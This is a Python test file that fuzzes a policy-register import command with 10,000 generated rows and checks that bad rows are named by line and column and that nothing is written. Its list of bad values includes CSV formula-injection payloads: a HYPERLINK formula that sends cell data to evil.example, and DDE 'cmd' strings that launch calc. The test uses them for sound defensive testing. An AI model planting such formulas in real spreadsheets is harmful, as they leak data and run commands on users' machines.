"""Ten thousand register rows, bad values among good, as a policy officer's Excel saves them:
a semicolon-separated Latin-1 file with Windows line endings, a UTF-8 one with a byte order
mark, and a workbook. Every bad row is named by its line and column, nothing is written, and no
traceback is shown; the same files without their bad rows import whole."""

from __future__ import annotations

import csv
import random
import re
import subprocess
import sys
from datetime import date, timedelta
from pathlib import Path

from openpyxl import Workbook

from tests.adversarial.conftest import changed, report, state
from tests.e2e.conftest import base_env

HEADER = [
    "reference",
    "title",
    "type",
    "service_area",
    "owner_email",
    "approver_email",
    "review_cycle_months",
    "last_approved",
    "next_review_due",
    "version",
    "link",
]
TYPES = ["policy", "Procedure", "Practice Guidance", "protocol", "form"]
# One bad value each: (column, value); `None` for the duplicate reference, filled in later.
BAD = [
    ("next_review_due", "31/02/2027"),  # no such day
    ("next_review_due", "02/14/2027"),  # month first: there is no 14th month
    ("last_approved", "2026-13-01"),
    ("title", "T" * 10_000),
    ("title", '=HYPERLINK("http://evil.example/?"&A1,"Open the policy")'),
    ("link", "=cmd|' /C calc'!A0"),
    ("service_area", "@SUM(1+1)*cmd|' /C calc'!A0"),
    ("type", "leaflet"),
    ("approver_email", "not an address"),
    ("review_cycle_months", "twelve"),
    ("review_cycle_months", "-3"),
    ("reference", "R" * 95),  # with the row's number after it: too long, and unique
    ("reference", None),  # a reference already used above
]
PROBLEM = re.compile(r"^signoff: (.+?):(\d+): ([a-z_]+): ", re.MULTILINE)


def rows_for(prefix: str, count: int, rng: random.Random, today: date):
    """`count` rows, one in five with one bad value; the good rows; the bad (line, column)."""
    rows: list[list[object]] = []
    good: list[list[object]] = []
    bad: set[tuple[int, str]] = set()
    for n in range(count):
        line = n + 2
        due = today + timedelta(days=rng.randint(-400, 900))
        row: list[object] = [
            f"{prefix}-{n:05d}",
            rng.choice(
                [
                    f"Évaluation de l'enfant nº {n} — suivi",
                    f"Smith; Jones and Co-operation {n}",
                    f'Quoted "Care" Plan {n}',
                    f"Placement Moves {n}",
                ]
            ),
            rng.choice(TYPES),
            "Children in Care",
            f"owner{n % 40}@example.org",
            f"approver{n % 15}@example.org",
            rng.choice(["", "12", "36"]),
            "",
            rng.choice([f"{due:%d/%m/%Y}", due.isoformat(), f"{due:%d %b %Y}"]),
            f"1.{n % 10}",
            f"https://manual.example.org/{prefix.lower()}-{n}",
        ]
        if n % 5 == 4:
            column, value = BAD[(n // 5) % len(BAD)]
            if value is None:
                value = good[rng.randrange(len(good))][0]
            elif column == "reference":
                value = f"{value}{n:05d}"
            row[HEADER.index(column)] = value
            bad.add((line, column))
        else:
            good.append(row)
        rows.append(row)
    return rows, good, bad


def write_csv(path: Path, rows: list[list[object]], *, encoding: str, delimiter: str) -> None:
    with path.open("w", newline="", encoding=encoding) as handle:
        writer = csv.writer(handle, delimiter=delimiter, lineterminator="\r\n")
        writer.writerow(HEADER)
        writer.writerows(rows)


def write_xlsx(path: Path, rows: list[list[object]]) -> None:
    workbook = Workbook()
    sheet = workbook.active
    sheet.append(HEADER)
    for row in rows:
        sheet.append(row)  # a value that starts with = is stored as a formula, as Excel would
    workbook.save(path)


def signoff_cli(env: dict[str, str], now: str, *args: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [sys.executable, "-m", "bot", "--now", now, *args],
        env=env,
        capture_output=True,
        text=True,
        timeout=300,
    )


def test_ten_thousand_fuzzed_rows_are_each_named_and_nothing_is_written(
    database_url: str, tmp_path: Path, clock
):
    rng = random.Random(15)
    now = clock.now().isoformat()
    env = base_env(database_url, "http://127.0.0.1:9/api/")  # no Slack is asked
    files = []
    for name, prefix, count in (
        ("semicolon-latin1.csv", "SL", 4000),
        ("bom-crlf.csv", "BC", 3000),
        ("register.xlsx", "XL", 3000),
    ):
        rows, good, bad = rows_for(prefix, count, rng, clock.now().date())
        path, clean = tmp_path / name, tmp_path / f"clean-{name}"
        if name.endswith(".xlsx"):
            write_xlsx(path, rows)
            write_xlsx(clean, good)
        elif name.startswith("semicolon"):
            write_csv(path, rows, encoding="cp1252", delimiter=";")
            write_csv(clean, good, encoding="cp1252", delimiter=";")
        else:
            write_csv(path, rows, encoding="utf-8-sig", delimiter=",")
            write_csv(clean, good, encoding="utf-8-sig", delimiter=",")
        files.append((path, clean, len(rows), len(good), bad))

    counts: dict[str, object] = {}
    before = state(database_url)
    for path, _, total, _, bad in files:
        result = signoff_cli(env, now, "import", str(path))
        named = {(int(line), column) for _, line, column in PROBLEM.findall(result.stderr)}
        counts[path.name] = {
            "rows": total,
            "bad": len(bad),
            "named": len(named),
            "exit": result.returncode,
            "tracebacks": result.stderr.count("Traceback"),
        }
        assert result.returncode == 1, result.stderr[-2000:]
        assert "Traceback" not in result.stderr
        assert named == bad, (sorted(named - bad)[:5], sorted(bad - named)[:5])
        assert f"{len(bad)} problems in {path}; nothing was imported." in result.stderr
    after = state(database_url)
    assert changed(before, after) == {}

    imported = 0
    for _, clean, _, good, _ in files:
        result = signoff_cli(env, now, "import", str(clean))
        assert result.returncode == 0, result.stderr[-2000:]
        assert f"{good} added" in result.stdout, result.stdout
        imported += good
    exported = signoff_cli(env, now, "export", "-").stdout
    titles = {row["reference"]: row["title"] for row in csv.DictReader(exported.splitlines())}
    report(
        "fuzzed register",
        {
            "rows": sum(f[2] for f in files),
            "bad rows": sum(len(f[4]) for f in files),
            **counts,
            "tables changed by the bad files": changed(before, after),
            "good rows imported from the clean files": imported,
        },
    )
    assert sum(f[2] for f in files) >= 10_000
    assert len(titles) == imported
    # Latin-1 read as what Excel wrote, and a semicolon inside a quoted cell kept.
    assert any(
        t.startswith("Évaluation de l'enfant nº") for r, t in titles.items() if r[:2] == "SL"
    )
    assert any(t.startswith("Smith; Jones") for r, t in titles.items() if r[:2] == "SL")
